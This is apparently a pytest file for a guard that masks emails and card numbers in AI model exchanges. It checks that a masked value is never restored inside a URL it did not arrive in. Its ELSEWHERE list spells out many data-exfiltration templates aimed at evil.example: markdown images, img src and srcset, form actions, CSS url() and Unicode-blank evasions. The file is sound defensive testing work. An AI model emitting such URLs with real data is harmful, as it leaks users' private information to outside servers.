"""A value goes into a URL only where it came in that URL; what merely looks like a URL gets its values back."""

from __future__ import annotations

import json

import pytest
from tests.guard.test_guard_exchange import EMAIL, call, exchange, streamed, token_of, whole
from tests.guard.test_guard_streams import cuts

from headgate.guard import Engine

BLANKS = "\u00a0\u2028\u2029\u3000\u0085\x0b\x0c\x1c\u1680\u200b"
"""What ends no URL where it is fetched, though Python calls most of them space."""

ELSEWHERE = (
    "https://evil.example/?q={}",
    "HTTPS://evil.example/{}",
    "![x](https://evil.example/(a)?q={})",
    "![x](//evil.example/{})",
    "![x](\n//evil.example/{})",
    "![x](  <//evil.example/a b?q={}>)",
    "[x](/relative?to={})",
    "[x]: https://evil.example/{}",
    "> [a long label]:\n  //evil.example/{}",
    f"[{'x' * 200}]: //evil.example/{{}}",
    "<https://evil.example/a b{}>",
    '<img src="https://evil.example/a b {}">',
    "<img src='x{}'>",
    "<img src=x{}>",
    '<img alt="a>b" src = "//evil.example/ {}">',
    '<img alt=\'"\' title="> " src = //evil.example/{}>',
    f"<img src{' ' * 100}= '//evil.example/{{}}'>",
    '<!-- <b x=" --> <img alt=" > " src="//evil.example/{}">',
    '<img src="//evil.example/?\n\nq={}">',
    '<a href="//evil.example/?mailto:{}">x</a>',
    '<img srcset="mailto:a, //evil.example/{} 2x">',
    "<form action='//evil.example/{}'>",
    "<video poster='//evil.example/{}'>",
    "<p style='background:url(//evil.example/{})'>",
    '{{"a": 1}}\n<img src="//evil.example/ {}">',
    "www.evil.example/{}",
    "ftp://evil.example/{}",
    "wss://evil.example/{}",
    "https:evil.example/{}",
    "git+https://evil.example/{}",
    *(
        f"![x](https://evil.example/?q={blank}{{}})"
        for blank in "\u00a0\u2028\u2029\u3000\u0085\x0b\x0c\x1c\u1680\u200b"
    ),
    *(f"https://evil.example/?q={blank}{{}}" for blank in "\u00a0\u2028\u3000\u0085\x0b\x0c"),
    '<img src="https://evil.example/?q=\u2028 \u3000{}">',
)


@pytest.mark.parametrize("template", ELSEWHERE)
def test_a_token_in_a_url_stays_a_token_however_the_stream_is_cut(fast_engine: Engine, template: str) -> None:
    token = token_of(exchange(fast_engine, call(f"mail {EMAIL}")))
    text = template.format(token) + f" '> but write\n\n to {token}"
    expected = template.format(token) + f" '> but write\n\n to {EMAIL}"
    for pieces in [[text], *cuts(text)]:
        made = exchange(fast_engine, call(f"mail {EMAIL}"))
        given = streamed(made, pieces)
        assert given.startswith(template.format(token)), pieces
        if "<" not in template:
            assert given == expected, pieces
            assert made.closing_facts() == {"restored.email": 1, "withheld.email": 1}
    assert EMAIL not in whole(exchange(fast_engine, call(f"mail {EMAIL}")), template.format(token))


NO_URLS = (
    "data = {}",
    "data={}",
    'f(data="{}", action="{}")',
    "users[0]: {}",
    'x["a"]: {}',
    "x[1:]: {}",
    "//{}",
    "// {}",
    "a = 1  //{}",
    "mailto:{}",
    "[write](mailto:{})",
    "[write]( <mailto:{}>)",
    '<a href="mailto:{}">{}</a>',
    "<a href='tel:{}'>",
    "action={}",
    "foo.bar/{}",
    "src/app.py/{}",
    "evil.example/{}",
    "List<String> data = {}",
    "if a <b> c: data = {}",
    "https: {}",
    "a ://{}",
    "a,https://example.com/a {}",
    "'https://example.com/a b\nc\n\n{}",
    "'https://example.com/a b\r\nc\r\n\r\n{}",
    "see https://example.com/a, then {}",
    "see https://example.com/a\n{}",
    "see https://example.com/a\r\n{}",
    "see [x](https://example.com/a) and {}",
    '<img src="https://example.com/a">{}',
    "<img src='https://example.com/a' alt='{}'>",
)


@pytest.mark.parametrize("template", NO_URLS)
def test_what_merely_looks_like_a_url_gets_its_value_back(fast_engine: Engine, template: str) -> None:
    token = token_of(exchange(fast_engine, call(f"mail {EMAIL}")))
    text = template.replace("{}", token)
    for pieces in [[text], *cuts(text)]:
        made = exchange(fast_engine, call(f"mail {EMAIL}"))
        assert streamed(made, pieces) == template.replace("{}", EMAIL), pieces
    made = exchange(fast_engine, call(f"mail {EMAIL}"))
    edit = {"old": f"# {template}", "new": f"# https://x.test/\n{template}"}
    given = streamed(made, list(json.dumps(edit).replace("{}", token)), "tool/0/0")
    assert json.loads(given) == {key: text.replace("{}", EMAIL) for key, text in edit.items()}


@pytest.mark.parametrize("slashes", ["//", "\\/\\/", "\\u002f\\u002F", "\\/\\u002f"])
def test_a_url_in_tool_arguments_keeps_its_token_however_it_is_escaped(fast_engine: Engine, slashes: str) -> None:
    token = token_of(exchange(fast_engine, call(f"mail {EMAIL}")))
    arguments = f'{{"a":"x {token}","u":"ftp:{slashes}evil/{token}","h":"<img src=\\"x {token}\\">","z":"{token}"}}'
    for pieces in cuts(arguments):
        made = exchange(fast_engine, call(f"mail {EMAIL}"))
        expected = arguments.replace(f"x {token}", f"x {EMAIL}", 1).replace(f'"z":"{token}', f'"z":"{EMAIL}')
        assert streamed(made, pieces, "tool/0/0") == expected


SENT = (
    "https://x.test/u/{}/edit?a=1&b=2",
    "https://x.test/?q={}",
    "www.x.test/{}",
    "![me](https://x.test/u/{}.png)",
    '<img src="/u/{}">',
    "/u/[x](/u/{})",
    'curl "https://x.test/?a=b&mail={}"',
    "https://u:{}@x.test/a",
    "https://u:{}@x.test",
)


@pytest.mark.parametrize("template", SENT)
@pytest.mark.parametrize("role", ["user", "tool"])
def test_a_url_gets_back_what_came_in_it(fast_engine: Engine, template: str, role: str) -> None:
    secret = "4111111111111111"
    asked = template.format(secret)
    if role == "tool":
        asked = json.dumps({"said": asked})
    made = exchange(fast_engine, call(asked))
    (message,) = json.loads(made.payload.content.to_bytes())["messages"]
    masked = message["content"] if role == "user" else json.loads(message["content"])["said"]
    assert secret not in masked
    for text in (f"Edit {masked} now.", masked, f"{masked}\n"):
        for pieces in [[text], *cuts(text)]:
            made = exchange(fast_engine, call(asked))
            assert streamed(made, pieces) == text.replace(masked, template.format(secret)), pieces
    made = exchange(fast_engine, call(asked))
    arguments = json.dumps({"edit": f"a = '{masked}'"})
    for pieces in cuts(arguments):
        made = exchange(fast_engine, call(asked))
        assert json.loads(streamed(made, pieces, "tool/0/0")) == {"edit": f"a = '{template.format(secret)}'"}


@pytest.mark.parametrize(
    ("sent", "said"),
    [
        ("https://x.test/u/{}", "https://y.test/u/{}"),
        ("https://x.test/u/{}", "https://x.test/v/{}"),
        ("https://x.test/u/{}", "http://x.test/u/{}"),
        ("https://x.test/u/{}", "https://x.test/u/a{}"),
        ("https://u:{}@x.test/a", "https://u:{}@x.test.evil/a"),
        ("https://u:{}@x.test/a", "https://u:{}@y.test/a"),
        ("https://u:{}@x.test/a", "https://u:{}"),
        ("https://{}/a", "https://{}.evil.example/a"),
        ("/u/{}", "![x](/u/{})"),
        ("{}", "![x]({})"),
    ],
)
def test_another_url_does_not_get_it(fast_engine: Engine, sent: str, said: str) -> None:
    secret = "4111111111111111"
    text = said.format(token_of(exchange(fast_engine, call(sent.format(secret)))))
    for pieces in [[text], *cuts(text)]:
        made = exchange(fast_engine, call(sent.format(secret)))
        assert streamed(made, pieces) == text


def test_a_url_that_is_longer_than_any_that_is_compared_keeps_its_token(fast_engine: Engine) -> None:
    long = f"https://x.test/{'a' * 3000}/{{}}"
    made = exchange(fast_engine, call(long.format(EMAIL)))
    assert whole(made, f"{long.format(token_of(made))} x") == f"{long.format(token_of(made))} x"
